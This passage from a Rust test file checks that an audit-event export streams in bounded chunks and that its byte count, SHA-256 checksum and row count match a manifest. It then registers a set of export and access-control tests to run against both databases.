        "the heap grew by {heap_growth} bytes while streaming {} bytes",
        probe.bytes
    );
    let chunk = service::exports::CHUNK_BYTES;
    assert!(
        probe.largest_write <= chunk + 4096,
        "at most a chunk and one row at a time: {}",
        probe.largest_write
    );
    assert!(
        probe.writes >= probe.bytes / (chunk as u64 + 4096),
        "{} writes for {} bytes",
        probe.writes,
        probe.bytes
    );
    assert!(probe.bytes > 20_000_000, "{} bytes", probe.bytes);
    assert_eq!(probe.bytes, manifest.bytes);
    assert_eq!(hex::encode(probe.sha256.finalize()), manifest.sha256);
    let counted: i64 = sqlx::query_scalar(
        "SELECT COUNT(*) FROM audit_events WHERE subject LIKE 'application:%' AND seq <= $1",
    )
    .bind(manifest.head_seq)
    .fetch_one(app.services.store.pool())
    .await
    .expect("count");
    assert_eq!(manifest.rows, counted as u64);
}

on_both_databases!(@with crate::common::no_workers;
    events_exports_match_the_database_row_for_row,
    decisions_export_matches_the_decisions_table,
    filters_narrow_the_rows,
    only_auditors_get_exports_and_ids_are_checked,
    the_cli_exports_with_a_manifest_and_refuses_bad_filters,
    two_hundred_thousand_events_stream_in_bounded_chunks,
);
